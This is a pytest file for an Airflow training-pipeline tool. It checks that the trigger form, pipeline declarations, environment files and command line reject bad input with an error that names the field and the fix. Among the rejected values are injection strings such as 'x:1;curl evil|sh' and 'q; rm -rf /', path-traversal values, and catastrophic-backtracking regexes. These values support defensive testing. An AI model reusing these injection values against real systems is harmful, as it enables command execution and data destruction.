"""A sweep of bad (and some good) input over every surface a value enters by.

The trigger form (checked by the DAG's Params and again by ``configure``), a pipeline declaration,
an environment file and the command line: each value below either fails before any work, with an
error that names the field and says how to fix it, or is accepted because it is valid. The tally is
recorded in docs/security.md ("Bad input").
"""

from __future__ import annotations

import copy
import json
import re
from typing import TYPE_CHECKING, Any

import pytest
from airflow.sdk import Param

from aliyun_training.cli import main
from aliyun_training.declaration import DeclarationError, declare
from aliyun_training.environments import load_environment
from aliyun_training.params import run_params
from aliyun_training.validation import SpecError
from fakes.environment_files import cifar10, resolve_configured
from tests.unit.test_untrusted_input import DLC  # a DLC environment that plans

if TYPE_CHECKING:
    from pathlib import Path

# -- the trigger form: (backend, field, value, valid) ---------------------------------------------

FORM: list[tuple[str, str, Any, bool]] = [
    *[("local", "nodes", v, False) for v in (0, -1, 17, 1000, "2", 2.5, None, True, [2], {"n": 2})],
    *[("local", "nodes", v, True) for v in (1, 2, 16, 2.0)],
    *[("local", "gpus_per_node", v, False) for v in (-1, 9, "1", 0.5, None)],
    ("local", "gpus_per_node", 0, True),
    *[
        ("local", "dataset_version", v, False)
        for v in ("../x", "v1\n", "/abs", ".hidden", "a/b", "x" * 65, "v 1", "v1;rm", "", 7, "ü")
    ],
    *[("local", "dataset_version", v, True) for v in ("2026-11-22", "v1.2_rc-3", None)],
    *[("local", "epochs", v, False) for v in (-1, 0, 101, "3", 2.5, None, True)],
    *[("local", "epochs", v, True) for v in (1, 100, 3.0)],
    *[("local", "batch_size", v, False) for v in (7, 1025, "64", [])],
    *[("local", "timeout_minutes", v, False) for v in (0, 43_201, "60", 1.5, None)],
    *[("local", "timeout_minutes", v, True) for v in (1, 20_000, 43_200)],
    *[("local", "max_gpu_hours", v, False) for v in (0, -1, "10", 1_000_001, True)],
    *[("local", "max_gpu_hours", v, True) for v in (0.5, 100, None)],
    *[("local", "dry_run", v, False) for v in ("yes", 1, "true", None)],
    *[("local", "skip_preflight", v, False) for v in ("no", 0)],
    *[("local", "backend", v, False) for v in ("sagemaker", "", None, "LOCAL", 1)],
    *[("local", "epoch", 3, False), ("local", "nodez", 2, False), ("local", "__proto__", {}, False)],
    *[
        ("local", "backend_overrides", v, False)
        for v in ({"priority": 5}, {"namespace": "kube-system"}, "priority=5", [1])
    ],
    *[
        ("dlc", "image", v, False)
        for v in ("evil", "registry.example.com/train", "a b:1", "x:1;curl evil|sh", "UPPER/x:1", 5)
    ],
    ("dlc", "image", "registry.example.com/train:2", True),
    *[
        ("dlc", "backend_overrides", v, False)
        for v in (
            {"priority": 0},
            {"priority": 10},
            {"priority": "5"},
            {"quota_id": "quota-not-offered"},
            {"quota_id": "q; rm -rf /"},
            {"cpu_per_node": 0},
            {"memory_gib_per_node": 5000},
            {"shared_memory_gib_per_node": -1},
            {"rdma": "off"},
            {"code_dir": "/tmp"},
            {"alibaba_cloud_conn_id": "prod"},
            {"nccl_env": {"NCCL_IB_HCA": "mlx5"}},
        )
    ],
    *[
        ("dlc", "backend_overrides", v, True)
        for v in ({"priority": 9}, {"quota_id": "quota9zz9"}, {"rdma": False}, {"cpu_per_node": 64})
    ],
    *[("dlc", "framework", v, False) for v in ("mpi", "tensorflow", "horovod")],
]


def _param_accepts(field: str, value: Any) -> bool | None:
    """Whether the DAG's Param for ``field`` accepts ``value`` (None: the form has no such field)."""
    params = run_params(cifar10())
    if field not in params:
        return None
    try:
        Param(params[field].value, **params[field].schema).resolve(value)
    except Exception:
        return False
    return True


@pytest.mark.parametrize(
    ("backend", "field", "value", "valid"), FORM, ids=[f"{b}-{f}={v!r}" for b, f, v, _ in FORM]
)
def test_the_form(tmp_path: Path, backend: str, field: str, value: Any, valid: bool) -> None:
    environment = DLC if backend == "dlc" else None
    form = {"backend": backend, field: value}
    if valid:
        plan = resolve_configured(tmp_path, environment, **form)
        assert plan.backend.value == backend
        assert _param_accepts(field, value) is not False, "the UI's form accepts what configure accepts"
        return
    with pytest.raises(SpecError) as refused:
        resolve_configured(tmp_path, environment, **form)
    _names_field_and_fix(str(refused.value), field)
    assert not (tmp_path / "cpfs").exists() and not (tmp_path / "runs").exists(), "nothing was done"
    if _param_accepts(field, value):
        # Only what the schema cannot say is left to configure: unknown keys, the quotas the
        # environment offers and the backend a framework needs.
        assert field in ("backend_overrides", "framework"), f"the UI's form let {field}={value!r} through"


# -- a pipeline declaration: (key path, value, valid) ----------------------------------------------

DECLARATION = {
    "pipeline": {"dag_id": "sweep_retrain", "schedule": "@weekly"},
    "dataset": {"name": "digits"},
    "training": {"code_dir": "code", "command": "python train.py --epochs {epochs}"},
    "parameters": {"epochs": {"type": "integer", "default": 2, "minimum": 1, "maximum": 50}},
}

DECLARATIONS: list[tuple[str, Any, bool]] = [
    *[("pipeline.dag_id", v, False) for v in ("", "has space", "a/b", "x" * 201, 7, "dag;id")],
    ("pipeline.dag_id", "team_a.digits-retrain", True),
    *[("pipeline.max_active_runs", v, False) for v in (0, 17, "one")],
    ("pipeline.max_active_runs", "1", True),  # YAML authors quote numbers
    *[("pipeline.retries", v, False) for v in (-1, 11)],
    *[("pipeline.dagrun_timeout_hours", v, False) for v in (0, 721)],
    *[("pipeline.owner", v, False) for v in ("", None)],
    *[("pipeline.colour", "blue", False)],
    *[("dataset.name", v, False) for v in ("", "Digits", "../x", "a b", "x" * 64)],
    *[("dataset.version.from", v, False) for v in ("oldest", "")],
    *[("dataset.version.format", v, False) for v in ("%Y/%m/%d", "latest", "", "%Y %m", "../%Y")],
    *[("dataset.version.format", v, True) for v in ("%G-W%V", "v%Y%m%d")],
    *[("dataset.version.wait_minutes", v, False) for v in (-1, 20_000)],
    *[("dataset.version.marker", v, False) for v in ("../_SUCCESS", "/abs", "a/b", "", "..")],
    *[("dataset.version.marker", v, True) for v in (None, "_DONE", ".complete")],
    *[("dataset.source_uri", v, False) for v in ("s3://b/{version}/", "oss://b/static/", "oss://b/{v}/")],
    *[("resources.nodes", v, False) for v in (0, 129)],
    *[("resources.gpus_per_node", v, False) for v in (-1, 17)],
    *[("resources.timeout_minutes", v, False) for v in (0, 43_201)],
    ("resources.nodes", 17, False),  # above max_nodes (16)
    *[
        ("training.command", v, False)
        for v in (
            'python train.py --epochs "{epochs}"',
            "python train.py --epochs '{epochs}'",
            "python train.py --epochs `echo {epochs}`",
            "python train.py --epochs \\{epochs}",
            "python train.py --epochs ${epochs}",
            "python train.py --epochs {epochs!r}",
            "python train.py --epochs {epochs:>4}",
            "cat <<EOF\n{epochs}\nEOF",
            "python train.py --epochs {epoch}",
            "python train.py {",
            "",
        )
    ],
    ("training.command", "{torchrun} train.py --epochs {epochs} --name=run-{epochs}", True),
    *[("training.framework", v, False) for v in ("jax", "")],
    ("training.env", {"MASTER_ADDR": "x"}, False),
    *[("backends.dlc.environment", v, False) for v in ("../dlc.json", "dlc.yaml", "/etc/dlc.json", "")],
    *[("artifacts.collect", v, False) for v in (["../secrets"], ["/etc"], ["a b"])],
    *[("artifacts.report_metrics", v, False) for v in ([], ["Train-Loss"])],
    *[("recovery.max_gpu_hours", v, False) for v in (0, -5, 2_000_000)],
    *[("recovery.retries", v, False) for v in (-1, 21)],
    ("recovery.classes.user_code.action", "reboot", False),
    *[
        ("parameters.run_name", v, False)
        for v in (
            {"type": "string", "default": "a", "pattern": "(["},
            {"type": "string", "default": "a", "pattern": "^(a+)+$"},
            {"type": "string", "default": "a", "pattern": "^(\\w+\\s?)*$"},
            {"type": "string", "default": "a", "pattern": "^(?=a)a$"},
            {"type": "string", "default": "b", "pattern": "^a$"},
            {"type": "integer", "default": "a"},
            {"type": "date", "default": "a"},
        )
    ],
    (
        "parameters.run_name",
        {"type": "string", "default": "a-1", "pattern": "^[a-z0-9]+(-[a-z0-9]+)*$"},
        True,
    ),
    *[
        ("parameters.Epochs", {"type": "integer", "default": 1}, False),
        ("parameters.nodes", {"type": "integer", "default": 1}, False),
    ],
]


def _set(data: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    changed = copy.deepcopy(data)
    *parents, last = path.split(".")
    node = changed
    for key in parents:
        node = node.setdefault(key, {})
    node[last] = value
    return changed


@pytest.mark.parametrize(
    ("path", "value", "valid"), DECLARATIONS, ids=[f"{p}={v!r}" for p, v, _ in DECLARATIONS]
)
def test_a_declaration(tmp_path: Path, path: str, value: Any, valid: bool) -> None:
    data = _set(DECLARATION, path, value)
    if path == "training.command" and valid:
        data["training"]["command"] = value
    if valid:
        assert declare(data, base_dir=tmp_path).dag_id
        return
    with pytest.raises(DeclarationError) as refused:
        declare(data, base_dir=tmp_path)
    _names_field_and_fix(str(refused.value), path.split(".")[0])


# -- an environment file: (backend, key path, value, valid) ------------------------------------------

ENVIRONMENTS: list[tuple[str, str, Any, bool]] = [
    *[("dlc", "region", v, False) for v in ("Wulanchabu", "cn_wulanchabu", 5)],
    *[("dlc", "quota_id", v, False) for v in ("quota 1", "q/../x", "x" * 129, "-q")],
    *[("dlc", "priority", v, False) for v in (0, 10, "high")],
    *[("dlc", "resource_type", v, False) for v in ("gpu", "Lingjun")],
    *[("dlc", "vpc.vpc_id", v, False) for v in ("vpc 1", "vpc;x")],
    *[("dlc", "vpc.extended_cidrs", v, False) for v in (["10.0.0.0/33"], ["10.0.0.1/16"], "10.0.0.0/8")],
    *[("dlc", "output_uri", v, False) for v in ("s3://bucket/x/", "oss://", "/mnt/out", "oss://b/../x/")],
    *[("dlc", "code_dir", v, False) for v in ("relative", "/a/../b", "/a\nb")],
    *[("dlc", "cpu_per_node", v, False) for v in (0, 513)],
    *[("dlc", "staging.mode", v, False) for v in ("pod", "copy")],
    *[("dlc", "staging.source_uri", v, False) for v in ("oss://b/{dataset}/", "oss://b/{version}{x}/")],
    *[("dlc", "allowed_pipelines", v, False) for v in ("team_a_*", ["team a"], [5])],
    ("dlc", "allowed_pipelines", ["team_a_*", "digits_?etrain"], True),
    ("dlc", "allowed_owners", ["team-a"], True),
    ("dlc", "unknown_key", 1, False),
    ("dlc", "vpc.unknown", 1, False),
    *[("arena", "namespace", v, False) for v in ("Training", "a_b", "x" * 64)],
    *[("arena", "data_pvc", v, False) for v in ("PVC", "a b")],
    *[("arena", "rdma_check.device", v, False) for v in ("mlx5_0; rm", "a b")],
    *[("arena", "max_gpus_per_node", v, False) for v in (0, 65)],
    ("arena", "namespace", "training", True),
    *[("local", "master_port", v, False) for v in (80, 70_000, "x")],
    ("local", "stop_grace_seconds", 0, False),
    ("local", "master_port", 29_500, True),
]


@pytest.mark.parametrize(
    ("backend", "path", "value", "valid"), ENVIRONMENTS, ids=[f"{b}-{p}={v!r}" for b, p, v, _ in ENVIRONMENTS]
)
def test_an_environment_file(tmp_path: Path, backend: str, path: str, value: Any, valid: bool) -> None:
    file = tmp_path / f"{backend}.json"
    file.write_text(json.dumps(_set({}, path, value)))
    if valid:
        assert load_environment(file, backend) is not None
        return
    with pytest.raises(SpecError) as refused:
        load_environment(file, backend)
    assert f"environment file {file}" in str(refused.value)
    _names_field_and_fix(str(refused.value), path.split(".")[0])


# -- the command line ---------------------------------------------------------------------------------

CLI: list[tuple[list[str], str]] = [
    (["--params", "[1]"], "--params"),
    (["--params", "{not json"], "--params"),
    (["--params", '"nodes=2"'], "--params"),
    (["--params", '{"nodes": 0}'], "nodes"),
    (["--params", '{"epoch": 3}'], "epoch"),
    (["--params", '{"backend_overrides": {"namespace": "x"}}'], "backend_overrides"),
    (["--dataset-version", "../etc"], "dataset_version"),
    (["--dataset-version", "v1\n"], "dataset_version"),
    (["--backend", "sagemaker"], "--backend"),
    (["--environment", "/nonexistent/dlc.json", "--backend", "dlc"], "environment file"),
]


@pytest.mark.parametrize(("arguments", "field"), CLI, ids=[" ".join(a) for a, _ in CLI])
def test_the_command_line(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    arguments: list[str],
    field: str,
) -> None:
    monkeypatch.setenv("ALIYUN_TRAINING_LOCAL_ROOT", str(tmp_path))
    defaults = {"--backend": "local", "--dataset-version": "v1", "--params": "{}"}
    given = dict(zip(arguments[::2], arguments[1::2], strict=True))
    argv = ["plan", "--no-preflight", *(item for pair in {**defaults, **given}.items() for item in pair)]

    try:
        status = main(argv)
    except SystemExit as exit_:  # argparse refuses a choice itself, naming the argument and the choices
        status = int(exit_.code or 0)
    captured = capsys.readouterr()

    assert status == 2 and captured.out == ""
    assert field in captured.err and re.search(r"fix|choose from", captured.err), captured.err
    assert list(tmp_path.iterdir()) == [], "nothing was created"


def _names_field_and_fix(message: str, field: str) -> None:
    assert field in message, f"{field!r} is not named in: {message}"
    assert re.search(r"\bfix\b", message), f"no fix in: {message}"


def test_the_sweep_covers_at_least_150_values() -> None:
    counted = len(FORM) + len(DECLARATIONS) + len(ENVIRONMENTS) + len(CLI)
    refused = sum(not valid for *_, valid in FORM + DECLARATIONS + ENVIRONMENTS) + len(CLI)

    assert counted >= 150 and refused >= 120, (counted, refused)
